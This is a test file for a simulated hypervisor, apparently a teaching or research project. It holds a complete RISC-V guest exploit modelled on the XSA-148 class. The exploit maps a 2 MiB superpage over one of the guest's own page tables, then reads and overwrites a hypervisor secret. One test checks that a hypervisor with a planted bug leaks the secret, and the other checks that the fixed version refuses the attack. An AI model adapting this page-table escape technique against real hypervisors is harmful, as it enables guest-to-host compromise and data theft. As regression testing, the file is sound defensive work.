/**
 * The class of XSA-148, by a guest's own code: one entry above level 0 that maps 2 MiB, of which a careless hypervisor looks at the first
 * frame. Among the others lies a page table of the guest's, and from then on it writes what it wants into its own tables.
 */
import { describe, expect, it } from "vitest";
import { buildBoard } from "../../../lib/board/virt.ts";
import { installHypervisor } from "../../../lib/hs/hypervisor.ts";
import { onlooker } from "../../../lib/hs/onlooker.ts";
import { referee } from "../../../lib/referee/referee.ts";
import { violationText } from "../../../lib/referee/violation.ts";
import { FIRST_HYPERCALL, HYPERCALLS } from "../../../lib/vmm/hypercalls.ts";
import { printedBy } from "../../../lib/vmm/hypervisor.ts";
import { Migration, StartInfo, vmmState } from "../../../lib/vmm/layout.ts";
import { loadGuests } from "../../../lib/vmm/loader.ts";
import { vmmModule } from "../../../lib/vmm/module.ts";
import { MISTAKES, planted } from "../../property/vmm/paravirtual-mistakes.ts";
import { type MakeVmm, vmmAfresh } from "../../support/vmm-afresh.ts";
import { guestBytes } from "./vmm-scene.ts";

const number = (name: string): bigint => FIRST_HYPERCALL + BigInt(Object.keys(HYPERCALLS).indexOf(name));
/** (machine address in `a0`, entry in `a1`): one update, whose list is at `s9`. */
const UPDATE = `update: sd a0, (s9)\n sd a1, 8(s9)\n mv a0, s9\n li a1, 1\n li a7, ${number("pv_update")}\n ecall\n ret`;
const print = (letter: string): string => `li a0, ${letter.charCodeAt(0)}\n li a7, 1\n ecall`;
const OFF = "li a7, 8\n ecall";
/** Entries of the guest's middle table: for 2 MiB, and for the table that it will write. */
const [WIDE, OWN] = [100, 101];
const BASE = 0x8000_0000;
const addressOf = (entry: number): number => BASE + entry * 0x20_0000;

/**
 * Reads eight bytes of a frame that is not its own, and stores there.
 *
 * `s1`: list of frames; `s2`: the middle table; `s3`: number of a page whose frame begins 2 MiB; `s4`: that frame.
 */
const attack = (target: bigint): string => `
    li s9, ${BASE + 0x8000}
    ld s1, ${StartInfo.offsetOf("frames")}(a1)
    ld t0, ${StartInfo.offsetOf("tables")}(a1)
    lwu t1, ${StartInfo.offsetOf("lowTables")}(a1)
    li t2, ${BASE}
    sub t0, t0, t2
    srli t0, t0, 12
    add t0, t0, t1
    slli t0, t0, 3
    add t0, t0, s1
    ld s2, (t0)
    slli s2, s2, 12
    # a page of mine whose frame begins 2 MiB
    li s3, 16
  look: slli t0, s3, 3
    add t0, t0, s1
    ld s4, (t0)
    andi t1, s4, 511
    beqz t1, found
    addi s3, s3, 1
    j look
    # the page behind it becomes a table: mapped to be read, and hung in
  found: addi t0, s3, 1
    slli t0, t0, 3
    add t0, t0, s1
    ld s5, (t0)
    ld t1, ${StartInfo.offsetOf("tables")}(a1)
    li t2, ${BASE}
    sub t1, t1, t2
    srli t1, t1, 12
    addi t2, s3, 1
    srli t3, t2, 9
    add t1, t1, t3
    slli t1, t1, 3
    add t1, t1, s1
    ld t1, (t1)
    slli t1, t1, 12
    andi t2, t2, 511
    slli t2, t2, 3
    add a0, t1, t2
    slli a1, s5, 10
    ori a1, a1, 0x43
    call update
    addi a0, s2, ${8 * OWN}
    slli a1, s5, 10
    ori a1, a1, 1
    call update
    # 2 MiB by one entry
    addi a0, s2, ${8 * WIDE}
    slli a1, s4, 10
    ori a1, a1, 0xc7
    call update
    bltz a0, refused
    # through it my table can be written: its first entry leads where I want
    li t0, ${addressOf(WIDE) + 4096}
    li t1, ${(target >> 12n) << 10n}
    ori t1, t1, 0xc7
    sd t1, (t0)
    sfence.vma
    li t0, ${addressOf(OWN)}
    li t1, ${target & 0xfffn}
    add s6, t0, t1
    ld s7, (s6)
    li s8, 8
  digit: mv a0, s7
    andi a0, a0, 255
    li a7, 1
    ecall
    srli s7, s7, 8
    addi s8, s8, -1
    bnez s8, digit
    not t0, zero
    sd t0, (s6)
    ${OFF}
  refused: ${print("R")}
    ${OFF}
  ${UPDATE}`;

/** Eight letters that nobody gave the guest. */
const NONCE = 0x5445_5243_4553_2d54n;

/** A board with the attacker, and a secret in a frame of the hypervisor's. */
function scene(module: MakeVmm) {
  const board = buildBoard({ ramBytes: 16 << 20 });
  const { sizeBytes } = board.bus.ram;
  const made = installHypervisor(board, () => module(sizeBytes));
  if (made.kind !== "hypervisor") throw new Error(made.message);
  // In a mailbox that nobody uses here.
  const secret = made.map.addressOf("migration") + BigInt(Migration.offsetOf("outbox") + 64);
  const image = guestBytes(attack(secret));
  const load = loadGuests(board, made.map, { guests: [{ image, begins: "paravirtual", ramBytes: 6 << 20 }] });
  if (load !== undefined) throw new Error(load.message);
  const state = vmmState(onlooker(board), made.map);
  board.memory.store(secret, 8, NONCE);
  const judge = referee(board, made);
  board.run({ instructions: 2_000_000 });
  return { printed: printedBy({ state }, 1), secret: board.memory.load(secret, 8), judge };
}

describe("one entry for 2 MiB", () => {
  it("gives a guest the machine, where the hypervisor looks at the first frame alone; the referee says how", async () => {
    const [mistake] = MISTAKES;
    if (mistake === undefined) throw new Error("no mistake");
    const { printed, secret, judge } = scene(await vmmAfresh(planted(mistake)));
    expect(printed).toBe("T-SECRET");
    expect(secret).toBe(2n ** 64n - 1n);
    const [first] = judge.violations.filter(({ invariant }) => invariant === "I2");
    expect(first?.sentence).toMatch(
      /Domain 1, paravirtualized, can write frame \d+ .* by the level-1 entry .* page table of level 0/,
    );
    expect(first?.walk.map(({ register, level }) => `${register} ${level}`)).toEqual(["vsatp 2", "vsatp 1"]);
    expect(judge.violations.map(({ invariant }) => invariant)).toContain("I1");
  });

  it("is refused by the hypervisor as it is, and nothing happens", () => {
    const { printed, secret, judge } = scene(vmmModule);
    expect(printed).toBe("R");
    expect(secret).toBe(NONCE);
    expect(judge.violations.map((violation) => violationText(violation))).toEqual([]);
  });
});
